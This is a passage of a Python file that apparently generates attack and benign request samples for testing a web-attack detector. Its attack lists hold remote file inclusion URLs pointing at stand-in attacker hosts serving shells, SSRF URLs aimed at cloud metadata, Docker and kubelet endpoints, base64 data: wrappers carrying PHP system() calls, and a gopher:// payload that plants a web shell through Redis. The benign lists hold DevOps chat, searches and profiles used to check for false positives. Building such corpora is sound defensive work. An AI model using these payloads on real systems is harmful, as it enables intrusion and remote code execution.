    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://[::1]:22/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://127.1/admin",
    "http://0.0.0.0:9200/_cat/indices",
    "http://127.0.0.1:2375/containers/json",
    "http://10.0.0.1:8080/manager/html",
    "https://127.0.0.1:10250/pods",
    "http://172.17.0.1:2379/v2/keys/?recursive=true",
    "http://127.0.0.1:8500/v1/agent/self",
    "http://127.0.0.1:8080/actuator/env",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
]

# url-with-trailing-question-mark. Target: PHP include("$page.php"): fimap, Nikto, Nessus and Acunetix end the URL
# with '?' so the appended extension becomes a query string on the attacker's server (their own probe files)
URL_QMARK: list[Entry] = [
    "http://10.10.14.7/shell.txt?",
    "http://attacker.example/c99.txt?",
    "https://evil.example.com/r57.txt??",
    "http://rfi.nessus.org/rfi.txt?",
    "http://cirt.net/rfiinc.txt?",
    "http://some-inexistent-website.acu/some_inexistent_file_with_long_name?",
    "http://testasp.vulnweb.com/t/fit.txt?",
    "http://192.168.56.101/c.txt?&cmd=uname",
    "//10.10.14.7/shell.txt?",
    "hTTp://evil.example.com/s.txt?",
    "http://attacker.example/shell.txt?page=",
    "https://pastebin.com/raw/Zq3xT9bK?",
    "http://y8k2fq0v1d.burpcollaborator.net/?",
    "http://c5v0d2q7a9nf.oast.fun/shell.txt?",
    "https://raw.githubusercontent.com/attacker/tools/main/shell.txt?",
    "http://203.0.113.66/phpinfo.txt?.php",
    "http://10.10.14.7/shell.txt?cmd=id&",
    "https://198.51.100.23:8443/x.txt?",
    "http://evil.example.com/shell.txt?#",
    "ftp://anonymous:anon@10.10.14.7/shell.txt?",
    ("page=http://attacker.example/shell.txt%3f", *Q),
    ("file=http://10.10.14.7/shell.txt?", *Q),
    ("include=http://cirt.net/rfiinc.txt?", *F),
    ("template=https://evil.example.com/tpl.txt?", *Q),
    ("path=http://rfi.nessus.org/rfi.txt?", *Q),
    ("inc=http://203.0.113.66/r57.txt??", *F),
    ("lang=http://192.168.56.101/lang.txt%3F", *Q),
    ("src=//10.10.14.7/shell.txt?", *Q),
]

# include-parameter-with-url. Target: the PHP applications' include parameters the scanners' RFI checks name
# (Mambo/Joomla mosConfig_absolute_path, phpBB phpbb_root_path, register_globals overwrites of $_SERVER and
# $GLOBALS, WordPress-plugin abspath, AppServ appserv_root, the generic page/file/template/include/path), each
# request as the tool writes it: the whole `name=value` pair
INCLUDE_PARAM: list[Entry] = [
    ("page=http://10.10.14.7/shell.txt", *Q),
    ("file=http://attacker.example/c99.txt", *Q),
    ("template=http://evil.example.com/tpl.txt", *F),
    ("include=https://198.51.100.23/inc.txt", *Q),
    ("path=http://10.10.14.7/", *Q),
    ("inc=http://203.0.113.66/r57.txt", *F),
    ("mosConfig_absolute_path=http://10.10.14.7/shell.txt?", *Q),
    ("GLOBALS[mosConfig_absolute_path]=http://cirt.net/rfiinc.txt?", *Q),
    ("_SERVER[DOCUMENT_ROOT]=http://10.10.14.7/shell.txt?", *Q),
    ("phpbb_root_path=http://203.0.113.66/r57.txt?", *Q),
    ("abspath=http://evil.example.com/x.txt?", *Q),
    ("base_path=http://10.10.14.7/c.txt?", *F),
    ("dir=http://attacker.example/shell.txt?", *Q),
    ("language=http://10.10.14.7/en.txt?", *Q),
    ("module=http://192.168.56.101/mod.txt", *Q),
    ("pg=http://attacker.example/s.txt", *F),
    ("show=http://10.10.14.7/shell.txt", *Q),
    ("content=http://evil.example.com/c.txt?", *Q),
    ("doc=https://attacker.example/d.txt", *Q),
    ("view=http://10.10.14.7/v.txt?", *F),
    ("conf=http://203.0.113.66/conf.txt", *Q),
    ("config[root_dir]=http://10.10.14.7/shell.txt?", *Q),
    ("appserv_root=http://cirt.net/rfiinc.txt?", *Q),
    ("root_path=http://rfi.nessus.org/rfi.txt?", *Q),
    ("lib_path=http://10.10.14.7/lib.txt?", *F),
    ("page=http://10.10.14.7/shell.txt&cmd=id", *Q),
    ("include_path=http://attacker.example/x.txt?", *Q),
    ("class_path=http://192.168.56.101/c.txt?", *Q),
    ("header=http://evil.example.com/h.txt?", *F),
    ("theme=http://10.10.14.7/theme.txt?", *Q),
    ("skin_file=http://203.0.113.66/s.txt?", *Q),
]

# off-domain-reference. Target: PHP include() / a server-side fetcher given a host that is not the site's own:
# the tester's domain, the out-of-band interaction hosts the scanners generate (interactsh, Collaborator, dnslog,
# ceye), paste and raw-file hosts, tunnels, and the URL-parser confusions SSRFmap tries
OFF_DOMAIN: list[Entry] = [
    "http://attacker.example/shell.txt",
    "https://evil.example.com/backdoor.php",
    "//evil.example.com/shell.txt",
    "http://c5v0d2q7a9nf.oast.fun",
    "https://cq1v8d0ti3p2.oast.pro/x",
    "http://y8k2fq0v1d.burpcollaborator.net",
    "https://pastebin.com/raw/Zq3xT9bK",
    "https://raw.githubusercontent.com/pentestmonkey/php-reverse-shell/master/php-reverse-shell.php",
    "https://gist.githubusercontent.com/attacker/1a2b3c/raw/shell.php",
    "http:\\\\evil.example.com\\s.txt",
    "http:/\\evil.example.com/s.txt",
    "http://app.example.com@evil.example.com/shell.txt",
    "http://evil.example.com#@app.example.com/",
    "http://evil.example.com\\@app.example.com/",
    "https://3f2a-203-0-113-66.ngrok-free.app/shell.txt",
    "https://transfer.sh/Zk3pQ/shell.php",
    "http://www.evil.example/php/c99.txt",
    "http://attacker.example:8080/s.txt",
    "HtTpS://EvIl.example.com/x.txt",
    "http://a1b2c3.dnslog.cn/",
    "http://x7k2.abcdef.ceye.io/",
    "http://127.0.0.1.nip.io/",
    "http://evil.example.com%23.app.example.com/",
    "https://d1k9o2x7wq.oast.site/shell.php",
    "http://attacker.example/shell.php.txt",
    "https://evil.example.com/../../shell.txt",
    "http://evil.example.com:80\\@app.example.com/",
    "https://interact.sh/x.txt",
]

# protocols. Target: PHP include() and libcurl-backed fetchers that take any scheme: FTP and SMB / UNC / WebDAV
# shares (Windows PHP includes UNC paths even with allow_url_include off), data: and expect: wrappers, and the
# gopher:// and dict:// requests SSRFmap and Gopherus build against Redis, Memcached and SMTP
PROTOCOLS: list[Entry] = [
    "ftp://10.10.14.7/shell.txt",
    "ftp://anonymous:anonymous@203.0.113.66/pub/c99.txt",
    "smb://10.10.14.7/share/shell.php",
    "\\\\10.10.14.7\\share\\shell.php",
    "\\\\attacker.example\\public\\shell.php",
    "\\\\10.10.14.7@80\\dav\\shell.php",
    "\\\\10.10.14.7@SSL@443\\DavWWWRoot\\s.php",
    "//10.10.14.7/share/shell.php",
    "file://\\\\10.10.14.7\\share\\s.php",
    "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "data://text/plain,<?php system('id'); ?>",
    "data:;base64,PD9waHAgZWNobyBzaGVsbF9leGVjKCdpZCcpOz8+",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "expect://id",
    "expect://ls",
    "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$32%0d%0a"
    "%0a%0a<?php system($_GET['c']); ?>%0a%0a%0d%0a*4%0d%0a$6%0d%0aconfig%0d%0a$3%0d%0aset%0d%0a$3%0d%0adir%0d%0a"
    "$13%0d%0a/var/www/html%0d%0a*4%0d%0a$6%0d%0aconfig%0d%0a$3%0d%0aset%0d%0a$10%0d%0adbfilename%0d%0a$9%0d%0a"
    "shell.php%0d%0a*1%0d%0a$4%0d%0asave%0d%0a",
    "gopher://127.0.0.1:25/_HELO%20localhost%0d%0aMAIL%20FROM:<a@example.com>%0d%0aRCPT%20TO:<b@example.com>%0d%0a"
    "DATA%0d%0aSubject:%20ssrf%0d%0a%0d%0atest%0d%0a.%0d%0aQUIT%0d%0a",
    "gopher://127.0.0.1:11211/_stats%0d%0a",
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:11211/stats",
    "ldap://10.10.14.7:389/o=x",
    "tftp://10.10.14.7/shell.php",
    "sftp://10.10.14.7:2222/shell.php",
    "jar:http://10.10.14.7/evil.jar!/shell.jsp",
    "netdoc:///etc/passwd",
    "php://filter/resource=http://10.10.14.7/shell.txt",
    "ssh2.exec://user:pass@10.10.14.7:22/id",
    "ftps://10.10.14.7/shell.txt",
    "ftp://user:Passw0rd@10.10.14.7:2121/s.txt",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-expression-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", UNIX_PATHS),
    ("rce", "reverse-shells", REVERSE_SHELLS),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_FILES),
    ("lfi", "path-traversal", PATH_TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LOG_TARGETS),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QMARK),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]

# a whole `name=value` pair (the tool's own request): an identifier, optionally with [keys], then '='
RAW_PAIR = re.compile(r"[A-Za-z_][A-Za-z0-9_]*(\[[A-Za-z0-9_]+\])?=")

# the parameter names the tools target, per category
NAMES = {
    "rce": ["host", "ip", "cmd", "domain", "q", "name", "target", "addr"],
    "lfi": ["file", "page", "path", "doc", "lang", "download", "template", "q"],
    "rfi": ["page", "include", "template", "url", "src", "file", "path", "q"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = NAMES["rce"]
    # a tool's own pair keeps its percent-encoding and its trailing '?' on the wire
    kv_safe = "=&[]._-:/'*$!(),;{}~@%?"
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-raw-body", "rs-param-name")
    unique = True
    path_forbids = "/\\"
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A fixed entry written as the tool's whole `name=value` pair."""
        return fixed and RAW_PAIR.match(payload) is not None


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same tool names, words and syntax, typed innocently. A QA and DevOps team that runs security
# scanners in CI (pipeline configs described in prose, scan report summaries, ticket titles, searches for
# findings, links to tool docs, report file names), plus ordinary users' traffic with quotes, dashes, brackets,
# percent signs and code-like text
CHAT = [
    # scanners in CI
    "nightly ZAP baseline scan finished: 0 high, 2 medium (missing CSP header, cookie without SameSite)",
    "nuclei templates bumped to the latest release, the CI job still runs with -severity critical,high only",
    "sqlmap run against staging is scheduled for Thursday, ticket SEC-412 has the scope",
    "commix is in the Kali image we use for the pentest VM but it never runs in the pipeline",
    "dotdotpwn report for the file service came back clean, results attached to the ticket",
    "the SSRFmap check on the webhook feature passed once we added the outbound allowlist",
    "can we exclude /healthz and /readyz from the nuclei scope? they spam the access log",
    "tplmap and SSTImap both found nothing on the new email templates, closing SEC-398",
    "XSStrike crawl took 40 minutes last night, let's limit the depth to 2",
    "Dalfox is faster than XSStrike on our pages, switching the weekly job over",
    "the pipeline step is `make scan`, which runs trivy, semgrep and nuclei in that order",
    "semgrep flagged subprocess.run(..., shell=True) in tools/export.py, fixed in !2231",
    "the path traversal finding on /download is a false positive, we resolve with os.path.realpath first",
    "shellshock template fired on the legacy cgi-bin box, it's been decommissioned since March",
    "scan window for the external pentest is 22:00-02:00 UTC, please don't deploy during it",
    "ZAP full scan is too noisy for every merge request, keeping it nightly",
    "nuclei found an exposed .git/config on the old marketing site, ticket SEC-420, fixed same day",
    "the report says 'Remote File Inclusion - possible', it's the image proxy, already behind an allowlist",
    "marshalsec and ysoserial are only in the red-team repo, not on any build agent",
    "NoSQLMap is unmaintained, we'll drop it from the toolbox README",
    "the WAF blocked our own nuclei scan from the runner IP, added it to the scanner allowlist for staging only",
    "burp project file for the Q2 pentest is in the shared drive under security/2024-q2",
    "rerun the trivy image scan after the base image bump, the openssl CVE should be gone",
    "ticket: 'LFI in report export' - cannot reproduce, the filename is mapped through an id now",
    "sqlmap --batch --level 3 --risk 2 is the standard profile for the API, anything higher needs sign-off",
    "the CI template for scanners lives in ci/security.yml, include it in your project's .gitlab-ci.yml",
    # devops and shell talk
    "installer docs say curl -fsSL https://get.example.com/install.sh | sh, please pin a version instead",
    "the healthcheck in the Dockerfile is CMD-SHELL curl -f http://localhost:8080/healthz || exit 1",
    "bash -c is used in the entrypoint only to expand env vars, we can switch to exec form",
    "nginx access log lives in /var/log/nginx/access.log on the old boxes, journald on the new ones",
    "the .env file must never be committed, it's in .gitignore and the pre-commit hook checks it",
    "run `sudo systemctl restart nginx && tail -f /var/log/nginx/error.log` after the cert renewal",
    "the Windows build agent needs PowerShell 7, the old 5.1 breaks our Invoke-WebRequest retries",
    "use ${IFS} nowhere please, just quote your variables properly in the deploy script",
    "ssh keys: never share id_rsa, send me the .pub and I'll add it to authorized_keys",
    "cron job at */5 * * * * runs the cleanup script, logs go to /var/log/cleanup.log",
    "wget on the runner is missing, use curl -O instead",
    "nc -zv db.internal 5432 says the port is open, so it's the password",
    "the backup file is backup-2024-06-01.sql.gz, restore with gunzip -c ... | psql",
    "PHP 8 removed the null byte trick anyway, but we still validate the extension",
    "the reverse proxy strips ../ from paths before routing, that's nginx's normalisation",
    "powershell one-liner for the cert thumbprint: Get-ChildItem Cert:\\LocalMachine\\My",
    "web.config on the IIS box still has the old connection string, rotating it today",
    "the socat tunnel to the staging DB is only for the migration window",
    "python -m http.server 8000 is fine for sharing the report locally, not on the VPN",
    "the windows path is C:\\ProgramData\\Agent\\logs, the linux one /opt/agent/logs",
    "echo $PATH shows /usr/local/bin first, that's why the old binary was picked",
    "boot.ini questions are from the XP era, we don't have those machines anymore",
    "remember the file share is \\\\fileserver\\team now, not the old NAS",
    "percent encoding: %20 is a space, %2F a slash, the client double-encodes if you pass it pre-encoded",
    # support and product
    "customer asked why their upload named 'report (final) [v2].pdf' got renamed, it's the slug rules",
    "user says search for 'C++ & C#' returns nothing, the & is probably the problem in their bookmarklet",
    "support macro: to reset your password go to Settings -> Security -> Reset",
    "someone searched for 'cat /etc/passwd' in the directory, probably a curious intern",
    "the template picker shows 'Default', 'Compact' and 'Wide', the include option was removed",
    "profile bio limit is 280 characters now, emojis count as two",
    "a user's name is literally 'Null', the import handled it fine",
    "price column uses 50% off labels, the export escaped them correctly",
    "the page parameter in the API is 1-based, page=0 returns a 400",
    # bios
    "Security engineer. I run the scanners in CI so you don't have to. nuclei, ZAP, semgrep, trivy.",
    "QA automation. Playwright, pytest, and a lot of YAML.",
    "DevOps, Linux and a bit of PowerShell. Ask me about pipelines and runners.",
    "Pentester (OSCP, OSWE). Burp, sqlmap, ffuf and coffee.",
    "SRE on call this week, page me for anything behind the gateway",
    "Bash enthusiast, shellcheck evangelist, set -euo pipefail everywhere",
    "Windows admin turned cloud engineer. Still remember boot.ini.",
    "Red team lead. If you see odd traffic from 10.10.x.x in staging, that's us.",
    "Support agent, EMEA shift. Happy to help with uploads and profile issues.",
    "Release manager. Tickets, changelogs and 'did CI pass?'",
]

SEARCHES = [
    "ana", "nuclei", "sqlmap", "commix", "dotdotpwn", "burp", "zap", "shellshock", "powershell", "bash",
    "curl", "wget", "netcat", "passwd", "path traversal", "rfi", "lfi", "include", "template", "file",
    "ping", "pentest", "scanner", "ssrf", "O'Neil", "d'souza", "Jean-Luc", "50%", "C++", "C#",
    "security team", "red team", "qa", "devops", "sre", "windows", "linux", "[contractor]", "ci/cd", "report",
    "shell", "socat", "perl", "python", "page 2",
]

URLS = [
    "https://github.com/commixproject/commix/wiki",
    "https://docs.projectdiscovery.io/templates/introduction",
    "https://github.com/projectdiscovery/nuclei-templates",
    "https://github.com/wireghoul/dotdotpwn",
    "https://github.com/swisskyrepo/SSRFmap",
    "https://github.com/s0md3v/XSStrike",
    "https://github.com/hahwul/dalfox",
    "https://github.com/epinna/tplmap",
    "https://github.com/vladko312/SSTImap",
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://www.zaproxy.org/docs/docker/baseline-scan/",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://portswigger.net/web-security/os-command-injection",
    "https://portswigger.net/web-security/file-path-traversal",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Parameter-Expansion",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://semgrep.dev/docs/cli-reference",
    "https://gitlab.example.com/sec/scans/-/pipelines/48211",
]

PROSE = [
    "nuclei scan report June",
    "path traversal ticket SEC-431",
    "sqlmap profile for the API (level 3, risk 2)",
    "commix findings - none",
    "remote file inclusion review notes",
    "local file inclusion false positive on /download",
    "shellshock retest on legacy cgi-bin",
    "ZAP baseline: missing CSP and SameSite",
    "dotdotpwn results for file service",
    "scanner allowlist for staging runners",
    "red team / blue team sync",
    "PowerShell 7 upgrade for build agents",
    "bash script review: deploy.sh",
    "curl | sh installers to pin",
    "web.config secrets rotation",
    ".env files found in old repos",
    "id_rsa key rotation for the deploy user",
    "cron jobs inventory (*/5 and hourly)",
    "Windows share \\\\fileserver\\team access request",
    "C:\\ProgramData\\Agent logs location",
    "/var/log/nginx/access.log retention",
    "pentest scope 22:00-02:00 UTC",
    "SSRF allowlist for webhooks",
    "XSStrike vs Dalfox comparison",
    "tplmap & SSTImap on email templates",
    "include files in the CI template",
    "page 3 of the user list",
    "template: onboarding (v2)",
    "50% discount code users",
    "users with [contractor] tag",
    "O'Neil, Tom",
    "Jean-Luc Picard-Smith",
    "ops@example.org; sec@example.org",
    "report (final) [v2].pdf owner",
    "trivy: openssl CVE fixed?",
    "semgrep shell=True findings",
    "burp project Q2 2024",
    "netcat port checks",
    "socat tunnel window",
    "who is on call -- SRE",
]

PROFILES = [
    ("Tom O'Neil", "Path Lane 3, Bath"),
    ("Priya D'Souza", "Shell Road 12, Singapore"),
    ("Maya Curl", "Wget Street 4, Reading"),
    ("Nuclei Labs GmbH", "Karlstraße 5, Berlin"),
    ("Bash Street Books", "Bash St 21, Dundee"),
    ("Jean-Luc Perl", "Rue de la Paix 8, Paris"),
    ("Python & Co. Consulting", "Canal St 9, Manchester"),
    ("Windows & Doors Ltd", "Glass Rd 2, Leeds"),
    ("Ana Ping", "Rua Augusta 10, Lisbon"),
    ("Socat Trading (50% owned)", "Harbour 7, Rotterdam"),
    ("Dr. Lena Include", "Templestr. 1, Vienna"),
    ("Sam Page [contractor]", "Queen St 21, Auckland"),
    ("Red Team Security", "Unit 4, Tech Park, Cork"),
    ("Burp Brewing", "Mill Lane 6, York"),
    ("Zap Electric", "Volta Ave 11, Milan"),
    ("Null & Void Studios", "Old Town 5, Tallinn"),
    ("Traversal Tours", "Alpine Way 3, Innsbruck"),
    ("Remote Files Inc.", "Cloud Ave 100, Austin"),
    ("Echo Park Dental", "Sunset Blvd 200, Los Angeles"),
    ("Kim Powers-Shell", "Elm St 13, Springfield"),
]

UPLOAD_NAMES = [
    "nuclei-report-2024-06-12.json", "zap-baseline-report.html", "dotdotpwn_results.txt", "sqlmap-output.zip",
    "commix-scan.log", "pentest-findings-Q2.pdf", "ssrfmap-webhooks.txt", "burp-project-2024-q2.burp",
    "semgrep.sarif", "trivy-image-scan.json", "security.gitlab-ci.yml", "deploy_user.pub",
    "report (final) [v2].pdf", "O'Neil - contract.pdf", "users_50%_discount.csv", "team photo #3.jpg",
    "backup-2024-06-01.sql.gz", "win11-setup-notes.docx", "powershell-cheatsheet.pdf", "bash_tips.md",
    "shellshock-retest.pdf", "C++ & C# course.pdf", "path-traversal-training.pptx", "rfi-lfi-lab-handout.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "gitlab-runner 16.11.0 (16-11-stable; go1.21.9; linux/amd64)"),
    ("User-Agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506"),
    ("User-Agent", "Wget/1.21.4"),
    ("Referer", "https://gitlab.example.com/sec/scans/-/pipelines/48211"),
    ("Referer", "https://github.com/projectdiscovery/nuclei-templates/tree/main/http/cves"),
    ("Referer", "https://portswigger.net/web-security/file-path-traversal"),
    ("Referer", "https://www.google.com/search?q=commix+command+injection+ci"),
    ("Referer", "https://app.example.com/admin/users?page=2&sort=name"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "ci-scan-48211-0007"),
    ("Accept-Language", "en-GB,en;q=0.9,fr;q=0.6"),
    ("Cookie", "session=abc123; theme=dark; page_size=50"),
    ("Cookie", "session=abc123; last_search=path%20traversal; tz=Europe%2FLondon"),
    ("If-None-Match", "W/\"7a1c-18f3b2e0\""),
    ("X-Forwarded-For", "198.51.100.23"),
    ("Cache-Control", "no-cache"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
